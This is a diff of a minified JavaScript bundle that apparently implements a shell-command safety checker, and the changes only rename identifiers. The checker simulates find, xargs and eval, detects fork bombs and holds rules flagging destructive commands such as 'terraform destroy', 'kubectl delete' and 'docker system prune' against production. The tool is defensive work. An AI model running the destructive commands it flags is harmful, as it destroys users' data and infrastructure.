 0?[{text:o,glob:n}]:s.slice(0,8).map(i=>({text:`${o}/${i}`,glob:n||/[*?[]/.test(i)}))})}var Ec=(t,e,{text:s,glob:r})=>({text:t.text.replaceAll(e,()=>s),glob:t.glob||
-r&&t.text.includes(e)});function $h(t,e){if(e!==void 0)return xe(t.split(e).filter(r=>r!==""));let s=t.match(/"[^"\n]*"|'[^'\n]*'|\S+/g)??[];return xe(s.map(r=>r.
+r&&t.text.includes(e)});function $h(t,e){if(e!==void 0)return $e(t.split(e).filter(r=>r!==""));let s=t.match(/"[^"\n]*"|'[^'\n]*'|\S+/g)??[];return $e(s.map(r=>r.
 replace(/^(["'])(.*)\1$/,"$2")))}var _h={"find gfind":t=>{let{args:e}=t,s=e.findIndex(({text:f})=>/^(-(?![HLPOD])|[(!])/.test(f)),r=e.slice(0,s===-1?void 0:s).filter(
 ({text:f})=>!/^-[HLPOD]/.test(f)),n=s===-1?[]:e.slice(s),o=A_(r.length>0?r:[R(".")],n),i=o.map(({text:f})=>f),a=f=>mm(f,i,r[0]?.text??"."),l=n.flatMap(({text:f},m)=>{
 let[h,g]=/^-f(print0?|ls|printf)$/.test(f)?n.slice(m+1):[];return h?[{path:h,text:f==="-fprintf"?a(g?.text??""):Oe(i)}]:[]}),c=l.map(({path:f})=>({kind:"write",
@@ -5114,15 +5114,15 @@ path:f}));t.redirect(c).record();let d=n.flatMap(({text:f},m)=>{if(!/^-(exec|exe
 "{}"?o:[Ec(x,"{}",o[0])]),y=t.consumeInput().with({program:"find"}).runWords(g);return y==="\uFFFC"?[]:[y]});for(let{path:f,text:m}of l)t.write(f.text,m);let u=n.
 filter((f,m)=>n[m-1]?.text==="-printf");return(u.length>0?u.map(({text:f})=>a(f)).join(""):Oe(i))+d.join("")},"fd fdfind":t=>{t.record();let e=t.args.findIndex(
 ({text:o})=>/^(-x|-X|--exec|--exec-batch)$/.test(o));if(e===-1)return"\uFFFC";let s=R("\uFFFC"),r=t.args.slice(e+1),n=r.some(({text:o})=>o.includes("{"));return t.
-runWords(n?r.map(o=>Ec(o,"{}",s)):[...r,s]),"\uFFFC"},"xargs gxargs":t=>{let{options:e,operands:s}=j(t.args,S.getopt.xargs),{scope:r,context:n}=t;Cc(n.input)&&/^0+$/.
-test(W(e,"P","max-procs")[0]?.text??"")&&t.interpreter.reportForkBomb(t);let[o]=W(e,"a","arg-file"),a=(o?t.interpreter.files.written(o.text,r.folder)?.text:n.stdin?.
-readRest())??"\uFFFC",[l]=W(e,"d","delimiter"),c=W(e,"I","replace")[0]?.text??(G(e,"i","replace")?"{}":void 0),d=a.includes("\0")?"\0":`
+runWords(n?r.map(o=>Ec(o,"{}",s)):[...r,s]),"\uFFFC"},"xargs gxargs":t=>{let{options:e,operands:s}=W(t.args,S.getopt.xargs),{scope:r,context:n}=t;Cc(n.input)&&/^0+$/.
+test(M(e,"P","max-procs")[0]?.text??"")&&t.interpreter.reportForkBomb(t);let[o]=M(e,"a","arg-file"),a=(o?t.interpreter.files.written(o.text,r.folder)?.text:n.stdin?.
+readRest())??"\uFFFC",[l]=M(e,"d","delimiter"),c=M(e,"I","replace")[0]?.text??(K(e,"i","replace")?"{}":void 0),d=a.includes("\0")?"\0":`
 `,u=l?.text.replace("\\n",`
 `)??(c===void 0?void 0:`
-`),p=G(e,"0","null")?d:u,f=$h(a,p),m=s.length>0?s:[R("echo")],h=t.with({program:"xargs",context:st(n,"",n.input)});return t.interpreter.budget.spend(f.length>>2),
+`),p=K(e,"0","null")?d:u,f=$h(a,p),m=s.length>0?s:[R("echo")],h=t.with({program:"xargs",context:st(n,"",n.input)});return t.interpreter.budget.spend(f.length>>2),
 c===void 0?h.runWords([...m,...ls(f,E_)]):ls(f,xh).map(({text:y,glob:x})=>{let _=R(y.trimStart(),x);return h.runWords(m.map(E=>Ec(E,c,_)))}).join("")},parallel:t=>{
-let{options:e,operands:s}=j(t.args,S.getopt.parallel),r=[],n=[],o=W(e,"a","arg-file"),i=r;for(let u of s)/^:::{1,2}\+?$/.test(u.text)?i=u.text.startsWith("::::")?
-o:n:i.push(u);i===r&&o.length===0&&o.push(R("-"));let a=G(e,"q","quote"),l=a?Mr(r):ie(r).text,c=W(e,"I","replace").find(({text:u})=>u!=="")?.text??"{}";for(let{
+let{options:e,operands:s}=W(t.args,S.getopt.parallel),r=[],n=[],o=M(e,"a","arg-file"),i=r;for(let u of s)/^:::{1,2}\+?$/.test(u.text)?i=u.text.startsWith("::::")?
+o:n:i.push(u);i===r&&o.length===0&&o.push(R("-"));let a=K(e,"q","quote"),l=a?Mr(r):ie(r).text,c=M(e,"I","replace").find(({text:u})=>u!=="")?.text??"{}";for(let{
 text:u}of o){let p=u==="-"?t.context.stdin?.readRest():t.findWritten(u)?.text;n.push(...$h(p??"\uFFFC",`
 `))}let d=l.includes(c)||/\{[^{}\s]*\}/.test(l);for(let u of ls(n,xh)){let p=a?u.text:Wr(u),f=l.replaceAll(c,()=>p).replaceAll(/\{(?:-?\d+|\/\/|[#%]|\d*[/.]+)\}/g,
 ()=>p),m=l===""?u.text:d?f:`${l} ${Wr(u)}`;t.consumeInput().runShell(m)}return"\uFFFC"}};var Ch=require("node:path");var T_=1e3,Ac=t=>t.filter(({text:e})=>!/^-./.test(e)),Ni=(t,e)=>t.filter((s,r)=>new RegExp(`^-\\w*[${e}]$`).test(t[r-1]?.text??""));function Sh(t){let{scope:e}=t,
@@ -5138,11 +5138,11 @@ test(o)):r+1;return n!==-1&&!(r===-1&&/^[-+]\w*o$/.test(e[n-1]?.text??""))&&(s.a
 scope:e})=>{let[s,...r]=e.arguments;return e.arguments=[s,...r.slice(Number(t?.text??1)||1)],""},read:t=>{let{args:e,scope:s,context:r}=t,n=Ni(e,"dinNptu"),o=e.
 filter(f=>/^[A-Za-z_]\w*$/.test(f.text)&&!n.includes(f)),[i]=Ni(e,"a"),a=r.stdin?r.stdin.readLine()??"":"\uFFFC",l=r.environment.IFS?.text??s.value("IFS"),d=Array.
 from(a.trim(),f=>l.includes(f)?`
-`:f).join("").replace(/^\n+/,"").split(/\n+/);r.redirects.length>0&&t.record(),i&&s.set(i.text,xe(d));let u=i?[]:o.length>0?o:[R("REPLY")],p=a==="\uFFFC"||a==="\
+`:f).join("").replace(/^\n+/,"").split(/\n+/);r.redirects.length>0&&t.record(),i&&s.set(i.text,$e(d));let u=i?[]:o.length>0?o:[R("REPLY")],p=a==="\uFFFC"||a==="\
 \uFFFC\uFFFB";return u.forEach(({text:f},m)=>{let h=d.slice(m).join(l[0]??" "),g=m<u.length-1?d[m]??"":u.length===1?a.trim():h;s.set(f,[R(p?a:g)])}),""},"mapfil\
 e readarray":t=>{let{args:e,scope:s,context:r}=t;r.redirects.length>0&&t.record();let n=Ni(e,"CcdnOsu"),o=Ac(e).findLast(c=>!n.includes(c))?.text??"MAPFILE",[i]=Ni(
 e,"C");i&&t.runScript(`${i.text} 0 line`);let l=(r.stdin?.readRest()??"\uFFFC").replace(/\n$/,"").split(`
-`);return s.set(o,ls(xe(l),T_)),""},printf:t=>{let[e,s,...r]=t.args;return e?.text==="-v"&&s&&t.scope.set(s.text,[R(Cn(r.map(({text:n})=>n)))]),t.record()},alias:t=>{
+`);return s.set(o,ls($e(l),T_)),""},printf:t=>{let[e,s,...r]=t.args;return e?.text==="-v"&&s&&t.scope.set(s.text,[R(Cn(r.map(({text:n})=>n)))]),t.record()},alias:t=>{
 for(let{text:e}of t.args){let[,s,r]=/^([^=\s]+)=([\s\S]*)$/.exec(e)??[];s!==void 0&&t.scope.alias(s,r)}return t.record()},eval:t=>{let e=ie(t.args).text;return e.
 includes("\uFFFC")&&t.feedFromSubstitution(e).record(),e.trim()===""?"":t.runScript(e)},trap:t=>{let[e,...s]=t.args.filter(({text:r})=>r!=="--");return t.record(),
 e&&s.length>0&&!/^-/.test(e.text)&&t.runScript(e.text,t.scope.copy()),""},command:t=>{let e=t.args.findIndex(({text:r})=>!/^-[pvV]+$/.test(r)),s=t.args.slice(e===
@@ -5238,7 +5238,7 @@ i,Vc)){if(!this.budget.spend())break;a.set(e.name.value,[c]),l=Ut(l,this.list(e.
 stdin?.remaining.replace(/\n$/,"").split(`
 `)??[],i=Math.min(Vc,Math.max(2,o.length)),a="",l=c=>{this.list(e.clause.commands,s,c),a=Ut(a,this.list(e.body.commands,s,c))};for(let c=0;c<i&&this.budget.spend()&&
 (l(r),!(r.stdin?.remaining===""||s.same(n)));c+=1);if(r.stdin?.remaining&&!s.same(n)){let c=r.stdin.readRest().split(`
-`).filter(Boolean),[d]=ls(xe(c),0);d&&l(st(r,d.text,r.input))}return s.join(n),a===""?"":Lt(a)}maybe(e,s){let r=e.copy(),n=s(e);return e.join(r),n}redirected({command:e,
+`).filter(Boolean),[d]=ls($e(c),0);d&&l(st(r,d.text,r.input))}return s.join(n),a===""?"":Lt(a)}maybe(e,s){let r=e.copy(),n=s(e);return e.join(r),n}redirected({command:e,
 redirects:s},r,n){let o=this.site(r,n),i=this.redirect(s,o),a=this.invocations.length,l=this.node(e,r,i);return this.invocations.length===a&&s.length>0&&this.run(
 [R(":")],r,i,!1),this.settle(l,i,n,r)}alternatives(e,s,r){let n=e.redirects.map(l=>"target"in l?l.target:void 0),o=s.listAlternatives([e.name,...e.args,...e.prefix,
 ...n]),i=r.stdin?.remaining,a=this.command(e,s,r);for(let l of o){if(!this.budget.spend(4))break;if(this.command(e,l,i===void 0?r:st(r,i,r.input)),!e.name)for(let{
@@ -5248,7 +5248,7 @@ m,n)})),c=[...e.name?jn(e.name,n):[],...e.args.flatMap(m=>Wh(m,n))],d=this.redir
 y);d.redirects.length>r.redirects.length&&this.run([R(":")],s,d,!1),this.reportEmptied(d,s);let h=(d.stdin!==r.stdin?d.stdin?.readRest():void 0)??(this.invocations.
 length>i&&e.name?"\uFFFC":"");return this.settle(h,d,r,s)}let u={...r.environment};for(let{assignment:m,words:h}of a)u[m.name]=h[0]??R("");let p=e.name?.parts===
 void 0&&e.name?.text===e.name?.value;c.length===1&&/^(?::|true)$/.test(c[0].text)&&this.reportEmptied(d,s);let f=this.run(c,s,{...d,environment:u},p);return s.last=
-c.at(-1).text,this.settle(f,d,r,s)}reportEmptied({redirects:e,...s},r){let n=e.flatMap(({kind:i,path:a})=>i==="write"&&a.glob?[a]:[]),o=[...xe(["truncate","-s",
+c.at(-1).text,this.settle(f,d,r,s)}reportEmptied({redirects:e,...s},r){let n=e.flatMap(({kind:i,path:a})=>i==="write"&&a.glob?[a]:[]),o=[...$e(["truncate","-s",
 "0"]),...n];n.length>0&&this.run(o,r,{...s,redirects:[]},!1)}redirect(e,s){let r=s.context;for(let n of e){if(!this.budget.spend(1+(r.redirects.length>>3)))break;
 if(n.type==="HereDoc"){let{body:o}=n,i=o.parts?Fc(o.parts,s).text:o.text;r=Fh(r,n.operator==="<<-"?i.replace(/^\t+/gm,""):i)}else{if(n.target===void 0)continue;
 n.type==="HereString"?r=Fh(r,`${Is(n.target,s).text}
@@ -5275,10 +5275,10 @@ return i?i(o):vi(o)??Xm(o)??Lm(o)??o.record()},"\uFFFC")}addInvocation(e){return
 test(s)}function rS(t){let s=t.endsWith("e")&&!t.endsWith("ee")?t.slice(0,-1):S.sentences.doubled.has(t)?t+t.at(-1):t,r=/(?:s|x|z|ch|sh)$/.test(t),n=/[^aeiou]y$/.
 test(t),o=r?`${t}es`:n?`${t.slice(0,-1)}ies`:`${t}s`;return{[S.irregularVerbs.get(t)??(n?`${t.slice(0,-1)}ied`:`${s}ed`)]:"past",[`${s}ing`]:"ing",[o]:"third",[t]:"\
 base"}}var Vh=24,nS=40,oS=3;function Uh(t){let e=new Map;for(let s of t)for(let r of s.phrases)for(let n of r.verbs){let[o,...i]=n.split(" ");for(let[a,l]of Object.
-entries(rS(o)))e.set(a,[...e.get(a)??[],{form:l,rest:i,rule:s,phrase:r}])}return e}var iS=_e(({objects:t,with:e,without:s})=>({objects:t.length===0?void 0:Bc(t),
+entries(rS(o)))e.set(a,[...e.get(a)??[],{form:l,rest:i,rule:s,phrase:r}])}return e}var iS=Se(({objects:t,with:e,without:s})=>({objects:t.length===0?void 0:Bc(t),
 with:e&&Bc(e),without:Bc(s??[])}),new WeakMap);function Bc(t){let e=s=>/^<[^ ]*>(?: |$)|^[^ ]+\*(?: |$)/.test(s)?1:0;return[...t].sort((s,r)=>e(s)-e(r)).map(s=>s.
 split(" ").map(aS))}function aS(t){let e=/^<([\w-]+)>$/.exec(t)?.[1];if(e!==void 0)return lS(e);let s=t.length>1&&t.endsWith("*")?t.slice(0,-1):void 0;return({text:r})=>s===
-void 0?r===t:r.startsWith(s)}var lS=_e(t=>{let e=Gc(t);return _e(({text:s,kind:r})=>s.length<1e3&&(r==="plain"?e(s.replace(/[.,'"]{1,4}$|^['"]{1,4}/g,"")):e(s)||
+void 0?r===t:r.startsWith(s)}var lS=Se(t=>{let e=Gc(t);return Se(({text:s,kind:r})=>s.length<1e3&&(r==="plain"?e(s.replace(/[.,'"]{1,4}$|^['"]{1,4}/g,"")):e(s)||
 s.split(/\s+/).some(e)),new WeakMap)});function Kc(t,e,s=0){let r=cS(e),n=[];for(let[o,i]of r.entries()){if(i.kind!=="plain")continue;let a=new Set;for(let l of t.
 get(i.text)??[])a.has(l.rule)||s>=(l.phrase.trust??Number.POSITIVE_INFINITY)||dS(r,o,l)&&(a.add(l.rule),n.push({rule:l.rule,form:l.form,at:o}))}return n}function cS(t){
 return t.map((e,s)=>{let r=t[s+1];return e.text==="force"&&r?.kind==="plain"&&/^push/.test(r.text)&&e.stop===void 0?{...e,text:`force-${r.text}`}:e})}function dS(t,e,{
@@ -5595,7 +5595,7 @@ duction environment","prod environment","production","prod","production server*"
 "aws account","azure subscription","docker system"],"without":["test","tests","testing","local","dev","development","fixture*","mock*","sandbox","scratch","in-m\
 emory","temporary","temp","connection*","pool","migration*","support","driver","dependency","staging copy","row from","unused","docker-compose","c++","php","jav\
 a","using namespace","xml","xmlns","css","import*","typescript","prefix","kind","minikube","console*","logging","stack trace","stack overflow","code path","docs\
-","build"]},{"verbs":["run","apply"],"objects":["terraform destroy","kubectl delete","docker system prune"]}]}]`);var Ui=Qh;var{forms:Qc}=S,wS=64,kS=65536,vS=5e3,xS=1500,Kt=S.sentences,$S=[{...Ui[0],id:"run",phrases:[{verbs:[...Kt.run_verbs,"finish with"],objects:[]}]}],Xc=_e(Uh,new WeakMap);
+","build"]},{"verbs":["run","apply"],"objects":["terraform destroy","kubectl delete","docker system prune"]}]}]`);var Ui=Qh;var{forms:Qc}=S,wS=64,kS=65536,vS=5e3,xS=1500,Kt=S.sentences,$S=[{...Ui[0],id:"run",phrases:[{verbs:[...Kt.run_verbs,"finish with"],objects:[]}]}],Xc=Se(Uh,new WeakMap);
 function Xh(t,e=[],s=0){if(t.length>kS)return{findings:[],commands:[],problem:"too-long"};let r=0,n=[],o=[],i=Xc(Ui),a=[i,Xc(e)],l=!1,c=!0,d,u=Hh(t);if(u.length>
 vS)return{findings:n,commands:o,problem:"too-much"};for(let p of u){if(n.length>=wS)break;if(p.kind==="prompt"){l||o.push(p.command);continue}if(p.kind==="fence"){
 !l&&c&&o.push(...ES(p.language,p.code));continue}let{sentence:f,named:m}=TS(p.sentence,d);d=m;let h=l&&f.item;if((f.heading||!f.item)&&(l=(f.leads||f.heading)&&
@@ -5614,7 +5614,7 @@ sentence:{...t,words:n},named:r}}function PS(t,e,s){let r=it(t[e]),n=Kt.heads.ha
 (n?2:1)]?.text??"";return s.at(-1).text==="remote"?Kt.overwrites.has(o):Kt.passes_on.has(o)}function RS(t,e){if(AS(t.text))return[t];if(!(t.kind!=="plain"||!e||
 e.stop!==void 0))return Qc.valuable_things.test(`${e.text} ${t.text}`)?[e,t]:void 0}var Hi=lm,IS=100,Jh=50,qS={"unreadable-command":"The command $. Write it plainly, or in several steps.","unparsed-command":"No shell reads this: $. Give the com\
 mand alone; what is no command belongs in a file or an answer.","unverifiable-command":"Nobody can say before it runs which program this is, and it may be a dan\
-gerous one. $","unreadable-text":"The text is too long to be judged. Say it in parts."},qs=(t=Hi)=>new Jc(OS(t)),OS=_e(t=>new ui(t),new WeakMap),Jc=class{constructor(e){
+gerous one. $","unreadable-text":"The text is too long to be judged. Say it in parts."},qs=(t=Hi)=>new Jc(OS(t)),OS=Se(t=>new ui(t),new WeakMap),Jc=class{constructor(e){
 this.book=e}book;files=new Or;downloads=new ai;latest;judge(e,s){return"command"in e?this.judgeCommand(e.command,{principal:s,folder:e.folder,format:"code"},e.reading):
 "write"in e?this.judgeWrite(e,s):this.judgeText(e.text,s)}parse(e,s){let{latest:r,files:n}=this;if(r?.line===e&&r.folder===s&&r.version===n.version)return r.reading;
 let o=Mi(e,{files:n,readCode:Jo,folder:s});return this.latest={line:e,folder:s,version:n.version,reading:o},o}judgeCommand(e,s,r=this.parse(e,s.folder)){let{format:n}=s,
@@ -5695,7 +5695,7 @@ ack"},s1=new Set(["rm","mv","checkout","restore"]),r1=new Set(["-C","--directory
 n=(c,d)=>{if(!Ie(c)||c.text.startsWith("~"))return[];let u=Gi.posix.relative(s,Gi.posix.resolve(r,c.text));return u===".."||u.startsWith("../")?[]:[{path:u,below:d,
 glob:c.glob}]},o=t.redirects.filter(({kind:c})=>c!=="read").flatMap(({path:c})=>n(c,!1)),i=n1.has(t.program),a=or(t,e),l=[...l1({program:t.program,args:a}),...a1(
 {program:t.program,args:a})];return[...o,...l.flatMap(c=>n(c,i))]}function a1({program:t,args:e}){if(t==="find")return si(e);let{writes:s,deletes:r,moves:n,changes:o}=vn(
-t,$e(t,e));return[...s,...r,...n,...o]}function l1({program:t,args:e}){let s=Object.hasOwn(gg,t)?gg[t]:void 0,r=e.findIndex(({text:o})=>o==="--"),n=e.filter(({text:o},i)=>r>=
+t,_e(t,e));return[...s,...r,...n,...o]}function l1({program:t,args:e}){let s=Object.hasOwn(gg,t)?gg[t]:void 0,r=e.findIndex(({text:o})=>o==="--"),n=e.filter(({text:o},i)=>r>=
 0&&i>r||!o.startsWith("-"));switch(s){case void 0:return[];case"all":return n;case"last":{let o=e.findIndex(({text:i})=>i==="-t"||i==="--target-directory");return o>=
 0?e.slice(o+1,o+2):n.slice(-1)}case"all-but-first":return n.slice(1);case"in-place":return e.some(({text:o})=>/^(-[a-zA-Z]*i|--in-place)/.test(o))?n:[];case"dd":
 return e.filter(({text:o})=>o.startsWith("of=")).map(o=>({...o,text:o.text.slice(3)}));case"git":return s1.has(n[0]?.text??"")?n.slice(1):[];case"unpack":return e.
